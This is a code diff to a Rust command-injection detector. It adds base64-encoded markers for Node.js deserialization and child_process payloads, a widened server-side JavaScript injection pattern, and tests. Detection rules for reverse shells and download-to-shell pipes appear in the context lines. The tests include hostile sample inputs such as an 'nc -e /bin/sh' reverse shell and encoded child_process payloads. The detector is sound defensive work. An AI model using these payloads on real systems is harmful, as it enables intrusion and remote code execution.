@@ -113,6 +113,16 @@ fn is_imap_tag(w: &[u8]) -> bool {
     (1..=4).contains(&letters) && (2..=8).contains(&w.len()) && w.len() > letters && w[letters..].iter().all(u8::is_ascii_digit)
 }
 
+/// The markers of Node.js deserialization and child-process payloads (`_$$ND_FUNC$$_`,
+/// `__js_function`, `child_process`) as they read inside base64 at each of the three byte
+/// alignments, lower-cased like the matching form: only the characters that depend on the marker
+/// alone are kept. Payloads are smuggled this way in cookies and tokens the application decodes.
+const BASE64_MARKERS: &[&str] = &[
+    "xyqktkrfrlvoqyqkx", "8kje5ex0zvtkmkjf", "fjcrorf9gvu5djcrf",
+    "x19qc19mdw5jdglvb", "9fannfznvuy3rpb2", "fx2pzx2z1bmn0aw9u",
+    "y2hpbgrfchjvy2vzc", "noawxkx3byb2nlc3", "jaglszf9wcm9jzxnz",
+];
+
 /// Commands that run the command after them (`nohup ifconfig`, `sudo -u x id`). Sorted.
 const WRAPPERS: &[&str] = &["busybox", "env", "exec", "ltrace", "nice", "nohup", "strace", "sudo", "time", "timeout", "watch", "xargs"];
 
@@ -180,12 +190,14 @@ impl Cmdi {
         let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
         let start_then_sep = format!(r"^\s*(?:{DANGEROUS})(?:\.exe)?\s*(?:[;|]|&&)");
         let start_cmd = format!(r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\s+(?:-[a-z-]|/[a-z.]|[a-z0-9_.-]+\.(?:sh|sql|zip|gz|txt|yml|py|pl|rb|exe|bat)\b|-c\b|install\b|all\b|report\b|dump\b|decrypt\b|[a-z]+\s+-)");
+        let base64_js = BASE64_MARKERS.join("|");
         let table = [
+            (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
             (r"\(\s*\)\s*\{\s*[^}]*\}\s*;", Critical, 0.95, "Shellshock function definition"),
             (r"\(\s*\)\s*\{\s*:?\s*;?", Critical, 0.9, "Shellshock function definition"),
             (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|\d>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
-            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|env\b|\[)|process\s*\[\s*['`]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\brequire\s*\[|__js_function|\bfunction\s*\(\s*\)\s*\{|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
+            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|env\b|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\brequire\s*\[|__js_function|\bfunction\s*\(\s*\)\s*\{|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
             (r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b", Critical, 0.9, "server-side include"),
             (r#"\bfor\s+(?:/[a-z]\s+)*(?:(?:["'][^"']*["']|[a-z]:\\\S*)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
             (r#"\bif\s*(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S|errorlevel\s+\d|cmdextversion\s+\d|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|["'\[({%!][^=\s]*\s*==|/i\s+\S+\s*={2,3}\s*\S+\s+\S|(?:not\s+)?\S+\s*={2,3}\s*\S+\s+(?:echo|goto|set|call|cmd|exit|copy|del|type|dir|start|md|cd|rd|@|\())"#, High, 0.8, "Windows batch IF"),
@@ -294,6 +306,16 @@ impl Check for Cmdi {
             gated("process", process_member),
             gated("require", starts_word),
             lit("_$$nd_func$$_"),
+            lit("__js_function"),
+            lit("xyqktkrfrlvoqyqkx"),
+            lit("8kje5ex0zvtkmkjf"),
+            lit("fjcrorf9gvu5djcrf"),
+            lit("x19qc19mdw5jdglvb"),
+            lit("9fannfznvuy3rpb2"),
+            lit("fx2pzx2z1bmn0aw9u"),
+            lit("y2hpbgrfchjvy2vzc"),
+            lit("noawxkx3byb2nlc3"),
+            lit("jaglszf9wcm9jzxnz"),
             lit("constructor"),
             lit("module.exports"),
             gated("console", process_member),
@@ -374,6 +396,35 @@ impl Check for Cmdi {
 mod tests {
     use super::super::testing::*;
 
+    /// Standard base64 (enough for the test).
+    fn base64(bytes: &[u8]) -> String {
+        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let mut out = String::new();
+        for chunk in bytes.chunks(3) {
+            let n = chunk.iter().enumerate().fold(0u32, |acc, (i, &b)| acc | u32::from(b) << (16 - 8 * i));
+            for k in 0..=chunk.len() {
+                out.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
+            }
+        }
+        out
+    }
+
+    #[test]
+    fn base64_markers_are_the_markers_encoded_at_each_alignment() {
+        let mut expected = Vec::new();
+        for marker in [&b"_$$ND_FUNC$$_"[..], b"__js_function", b"child_process"] {
+            for k in 0..3usize {
+                let mut bytes = vec![0u8; k];
+                bytes.extend_from_slice(marker);
+                let enc = base64(&bytes);
+                // Characters whose 6 bits all come from the marker.
+                let stable: String = enc.chars().enumerate().filter(|(g, _)| 6 * g >= 8 * k && 6 * g + 6 <= 8 * (k + marker.len())).map(|(_, c)| c).collect();
+                expected.push(stable.to_ascii_lowercase());
+            }
+        }
+        assert_eq!(super::BASE64_MARKERS, expected.iter().map(String::as_str).collect::<Vec<_>>().as_slice());
+    }
+
     #[test]
     fn catches_cmdi() {
         assert_family(
@@ -411,6 +462,10 @@ mod tests {
                 "/???/??ho hi",
                 "1;.sh id",
                 "nc 10.1.1.1 9 -e /bin/sh",
+                "session=eyJ4IjoiXyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7fSJ9",
+                "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLnNwYXduKCdscycp",
+                "process[\"mainModule\"]",
+                "__js_function",
             ],
             &[
                 "Tom & Jerry",
@@ -442,6 +497,8 @@ mod tests {
                 "whoami is a command",
                 "glob /usr/*.txt files",
                 "https://example.com/home/?",
+                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl",
+                "The process [see above] is simple",
                 "https://example.com/var/?utm=1&x=2",
             ],
         );
